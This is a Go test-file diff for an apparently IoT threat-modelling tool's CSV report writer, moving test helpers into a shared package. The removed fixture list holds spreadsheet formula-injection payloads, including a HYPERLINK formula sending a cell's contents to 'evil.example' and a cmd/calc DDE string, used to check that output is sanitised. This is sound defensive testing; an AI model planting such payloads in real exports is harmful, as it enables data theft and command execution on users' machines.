@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"flag"
+	"io"
 	"os"
 	"path/filepath"
 	"reflect"
@@ -12,15 +13,15 @@ import (
 	"testing"
 
 	"github.com/iotthreat/iotthreat/engine"
+	"github.com/iotthreat/iotthreat/internal/outputtest"
 )
 
 var updateCSV = flag.Bool("update-csv", false, "rewrite the golden files in testdata/csv")
 
-// referenceDocument is the reference example's document, with the fixed
-// date loadDocument gives, and no diagram (CSV and XLSX show none).
-func referenceDocument(t testing.TB) *Document {
+// referenceFindings are the reference example's findings.
+func referenceFindings(t *testing.T) []engine.Finding {
 	t.Helper()
-	return loadDocument(t, "../examples/reference.yaml", DocumentOptions{NoDiagram: true})
+	return analyzeExample(t, "reference.yaml").Report.Findings
 }
 
 func writeCSV(t testing.TB, findings []engine.Finding, opts CSVOptions) []byte {
@@ -48,8 +49,8 @@ func readCSV(t *testing.T, data []byte) [][]string {
 // TestCSVGolden compares the reference example's CSV with
 // testdata/csv/reference.csv; run with -update-csv to rewrite it.
 func TestCSVGolden(t *testing.T) {
-	doc := referenceDocument(t)
-	got := writeCSV(t, doc.Findings, CSVOptions{})
+	findings := referenceFindings(t)
+	got := writeCSV(t, findings, CSVOptions{})
 	golden := filepath.Join("testdata", "csv", "reference.csv")
 	if *updateCSV {
 		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
@@ -66,7 +67,7 @@ func TestCSVGolden(t *testing.T) {
 	if !bytes.Equal(got, want) {
 		t.Errorf("CSV differs from %s; if the change is intended, run with -update-csv", golden)
 	}
-	if !bytes.Equal(got, writeCSV(t, doc.Findings, CSVOptions{})) {
+	if !bytes.Equal(got, writeCSV(t, findings, CSVOptions{})) {
 		t.Error("two writes of the same report differ")
 	}
 }
@@ -74,14 +75,14 @@ func TestCSVGolden(t *testing.T) {
 // TestCSVRoundTrip reads the CSV back and finds every finding in it,
 // field for field.
 func TestCSVRoundTrip(t *testing.T) {
-	doc := referenceDocument(t)
-	records := readCSV(t, writeCSV(t, doc.Findings, CSVOptions{}))
-	if len(records) != len(doc.Findings)+1 {
-		t.Fatalf("%d records for %d findings and a header", len(records), len(doc.Findings))
+	findings := referenceFindings(t)
+	records := readCSV(t, writeCSV(t, findings, CSVOptions{}))
+	if len(records) != len(findings)+1 {
+		t.Fatalf("%d records for %d findings and a header", len(records), len(findings))
 	}
 	for i, c := range findingColumns {
-		if records[0][i] != c.header {
-			t.Errorf("header %d is %q, want %q", i, records[0][i], c.header)
+		if records[0][i] != c.Header {
+			t.Errorf("header %d is %q, want %q", i, records[0][i], c.Header)
 		}
 	}
 	col := func(header string) int {
@@ -91,7 +92,7 @@ func TestCSVRoundTrip(t *testing.T) {
 		}
 		return i
 	}
-	for fi, f := range doc.Findings {
+	for fi, f := range findings {
 		rec := records[fi+1]
 		checks := map[string]string{
 			"id":          f.ID,
@@ -133,7 +134,7 @@ func TestColumnsCoverFinding(t *testing.T) {
 	walk(reflect.TypeFor[engine.Finding](), "")
 	var headers []string
 	for _, c := range findingColumns {
-		headers = append(headers, c.header)
+		headers = append(headers, c.Header)
 	}
 	if !reflect.DeepEqual(paths, headers) {
 		t.Errorf("columns do not match engine.Finding's fields:\nfields  %v\ncolumns %v", paths, headers)
@@ -141,9 +142,9 @@ func TestColumnsCoverFinding(t *testing.T) {
 }
 
 func TestCSVBOM(t *testing.T) {
-	doc := referenceDocument(t)
-	plain := writeCSV(t, doc.Findings[:3], CSVOptions{})
-	bom := writeCSV(t, doc.Findings[:3], CSVOptions{BOM: true})
+	findings := referenceFindings(t)
+	plain := writeCSV(t, findings[:3], CSVOptions{})
+	bom := writeCSV(t, findings[:3], CSVOptions{BOM: true})
 	if bytes.HasPrefix(plain, []byte("\xef\xbb\xbf")) {
 		t.Error("the default CSV starts with a BOM")
 	}
@@ -151,7 +152,7 @@ func TestCSVBOM(t *testing.T) {
 		t.Error("CSVOptions{BOM: true} is not the default output after a UTF-8 BOM")
 	}
 	var buf bytes.Buffer
-	if err := CSV(&buf, &engine.Report{Findings: doc.Findings[:3]}); err != nil || !bytes.Equal(buf.Bytes(), plain) {
+	if err := CSV(&buf, &engine.Report{Findings: findings[:3]}); err != nil || !bytes.Equal(buf.Bytes(), plain) {
 		t.Errorf("CSV differs from CSVOptions{}.Write (%v)", err)
 	}
 	if records := readCSV(t, writeCSV(t, nil, CSVOptions{})); len(records) != 1 {
@@ -182,38 +183,8 @@ func TestCSVFormulaInjection(t *testing.T) {
 	}
 }
 
-// hostileTexts are strings that break naive CSV writers and spreadsheets:
-// separators, quotes, line breaks, formula prefixes and non-ASCII text.
-var hostileTexts = []string{
-	`Title, with "quotes", commas`,
-	"two\nlines\r\nand CRLF",
-	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
-	"+cmd|' /C calc'!A0",
-	"-@SUM(1)",
-	"@import",
-	"\tleading tab",
-	"Zürich smart lock 🔒 — 東京 — שלום",
-	`"`,
-	";",
-}
-
-// hostileFindings puts each hostile text into the user-written fields of
-// a copy of real findings: the title, description, target name and why.
-func hostileFindings(t testing.TB) []engine.Finding {
-	doc := referenceDocument(t)
-	out := make([]engine.Finding, len(hostileTexts))
-	for i, s := range hostileTexts {
-		f := doc.Findings[i%len(doc.Findings)]
-		f.Title, f.Description, f.Target.Name = s, s+" (description)", s
-		f.Why = []string{s, "second reason"}
-		f.Tracking.Reason = s
-		out[i] = f
-	}
-	return out
-}
-
 func TestCSVHostileText(t *testing.T) {
-	findings := hostileFindings(t)
+	findings := outputtest.HostileFindings(referenceFindings(t))
 	data := writeCSV(t, findings, CSVOptions{})
 	records := readCSV(t, data)
 	if len(records) != len(findings)+1 {
@@ -233,24 +204,15 @@ func TestCSVHostileText(t *testing.T) {
 		}
 		for c, cell := range rec {
 			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-				t.Errorf("row %d column %s starts with a formula prefix: %q", i, findingColumns[c].header, cell)
+				t.Errorf("row %d column %s starts with a formula prefix: %q", i, findingColumns[c].Header, cell)
 			}
 		}
 	}
 }
 
 // BenchmarkCSV writes the findings of a 1,000-element synthetic model.
-// Run: go test ./report -run '^$' -bench 'CSV|XLSX' -benchmem
+// Run: go test ./report -run '^$' -bench CSV -benchmem
 func BenchmarkCSV(b *testing.B) {
-	doc := syntheticDocument(b, 1000)
-	rep := &engine.Report{Findings: doc.Findings}
-	var buf bytes.Buffer
-	for b.Loop() {
-		buf.Reset()
-		if err := CSV(&buf, rep); err != nil {
-			b.Fatal(err)
-		}
-	}
-	b.SetBytes(int64(buf.Len()))
-	b.ReportMetric(float64(len(doc.Findings)), "findings")
+	rep := outputtest.Synthetic(b, 1000).Report
+	outputtest.Benchmark(b, len(rep.Findings), func(w io.Writer) error { return CSV(w, rep) })
 }
